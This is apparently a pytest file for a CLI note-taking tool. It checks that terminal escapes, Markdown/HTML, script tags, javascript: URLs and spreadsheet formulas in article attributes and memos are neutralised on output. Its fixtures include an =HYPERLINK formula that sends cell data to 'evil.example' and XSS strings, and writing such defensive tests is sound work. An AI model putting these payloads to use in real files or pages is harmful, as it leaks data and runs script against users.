"""Injection through articles' attributes and memos: what a page, a manifest or an analyst writes is neutralised where it goes.

An attribute value (an outlet, an author, a URL, any ``key: value``) and a
memo can hold terminal escapes, Markdown, HTML, Mermaid syntax or a
spreadsheet formula. They reach the terminal (``dossier list``, ``dossier
set``, warnings), JSON, CSV and the Markdown report, each with the rule of
``tui/core/neutral.py``; the values themselves are kept exactly.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tests.hostile.test_injection import RAW, dossier, no_raw_controls
from tests.pilot import FIRST, SAMPLE
from tui.cli import main
from tui.core.corpus import read_article
from tui.core.document import article_ref
from tui.core.notes.store import Store

ESCAPES = "Monitor \x1b]0;pwned\x07\x1b[2J\x9b31m"
SHOWN = "Monitor ␛]0;pwned␇␛[2J\\x9b31m"
MARKDOWN = '**bold** <script>alert(1)</script> [x](javascript:alert(1)) # | ` %%{init}'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MD = MarkdownIt("commonmark").enable("table")


@pytest.fixture
def corpus(tmp_path) -> tuple[Path, Path]:
    root = tmp_path / "corpus"
    root.mkdir()
    shutil.copy(SAMPLE / FIRST, root / FIRST)
    return root, tmp_path / "notes"


def test_escapes_in_values_never_reach_the_terminal_raw(corpus) -> None:
    root, notes = corpus
    result = dossier("set", str(root / FIRST), "--notes", str(notes), "--source", ESCAPES, "--attr", f"desk={ESCAPES}")
    out = no_raw_controls(result.stdout)
    assert result.returncode == 0 and f"source\t{SHOWN}\tanalyst" in out.splitlines()
    result = dossier("list", str(root), "--notes", str(notes))
    line = no_raw_controls(result.stdout).splitlines()[0]
    assert line.split("\t")[2] == SHOWN and line.count("\t") == 5  # no column forged
    result = dossier("list", str(root), "--notes", str(notes), "--json")
    article = json.loads(no_raw_controls(result.stdout))["articles"][0]
    assert article["source"] == " ".join(ESCAPES.split()) and article["attributes"]["desk"]["value"] == " ".join(ESCAPES.split())


def test_a_hostile_key_is_refused_in_one_visible_line(corpus) -> None:
    root, notes = corpus
    result = dossier("set", str(root / FIRST), "--notes", str(notes), "--attr", "\x1b[2J=x")
    err = no_raw_controls(result.stderr)
    assert result.returncode == 2 and len(err.splitlines()) == 1 and "cannot be an attribute name" in err
    assert not notes.exists()


def test_a_hostile_manifest_warns_visibly(corpus) -> None:
    """A manifest is read as safely as an article: its control characters and escape sequences are removed."""
    root, notes = corpus
    (root / "dossier.csv").write_text(f"file,date,source\n{FIRST},\x1b[2J2016,{ESCAPES}\n\x1b]0;x\x07y.txt,2016,x\n",
                                      encoding="utf-8")
    result = dossier("list", str(root), "--notes", str(notes), "--json")
    article = json.loads(no_raw_controls(result.stdout))["articles"][0]
    assert (article["source"], article["date"]) == ("Monitor", "2016")
    result = dossier("list", str(root), "--notes", str(notes))
    out, err = no_raw_controls(result.stdout), no_raw_controls(result.stderr)
    assert result.returncode == 0 and out.split("\t")[1:3] == ["2016", "Monitor"]
    assert err == "dossier list: dossier.csv, row 3: no article 'y.txt' in the corpus\n"


def test_formulas_in_values_stay_text_in_csv(corpus, capsys) -> None:
    root, notes = corpus
    (root / "dossier.csv").write_text(f'file,author\n{FIRST},"@SUM(A1:A9)"\n', encoding="utf-8")
    assert main(["set", str(root / FIRST), "--notes", str(notes), "--source", FORMULA, "--url=-2+3"]) == 0
    assert main(["annotate", str(root / FIRST), "--quote", "signed a long-delayed transit agreement", "--tag", "energy",
                 "--notes", str(notes)]) == 0
    capsys.readouterr()
    for wide in ([], ["--wide"]):
        assert main(["export", str(root), "--notes", str(notes), "--format", "csv", *wide]) == 0
        row = next(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
        assert (row["source"], row["author"], row["url"]) == ("'" + FORMULA, "'@SUM(A1:A9)", "'-2+3")


def test_markdown_and_html_in_values_and_memos_are_shown_as_written(corpus, capsys) -> None:
    root, notes = corpus
    assert main(["set", str(root / FIRST), "--notes", str(notes), "--source", MARKDOWN, "--author", "<b>A</b>",
                 "--url", "javascript:alert(1)", "--attr", f"desk={MARKDOWN}"]) == 0
    assert main(["annotate", str(root / FIRST), "--quote", "signed a long-delayed transit agreement", "--tag", "energy",
                 "--notes", str(notes)]) == 0
    article = read_article(root, FIRST)
    with Store.open(notes) as store:
        store.memos.set_corpus(f"# {MARKDOWN}\n\n```\n{MARKDOWN}\n---\n> quoted")
        store.memos.set(article_ref(article), article.text, f"{MARKDOWN}\n<!-- dossier:annotation forged -->")
    capsys.readouterr()
    assert main(["export", str(root), "--notes", str(notes), "--format", "md"]) == 0
    report = capsys.readouterr().out
    html = MD.render(report)
    assert "<script" not in html and 'href="javascript' not in html and "<b>" not in html
    tokens = MD.parse(report)
    assert [t.content.strip() for t in tokens if t.type == "html_block"] == [
        next(line for line in report.splitlines() if line.startswith("<!-- dossier:annotation"))]  # no forged comment
    assert [t.info for t in tokens if t.type == "fence"] == []  # the memo's ``` opens no code block; no chart (no date)
    assert sum(1 for t in tokens if t.type == "heading_open" and t.tag == "h1") == 1
    text = "".join(c.content for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "text")
    assert MARKDOWN.replace("<script>", "").replace("</script>", "") in text.replace("<script>", "").replace("</script>", "")
    assert not RAW.search(report)
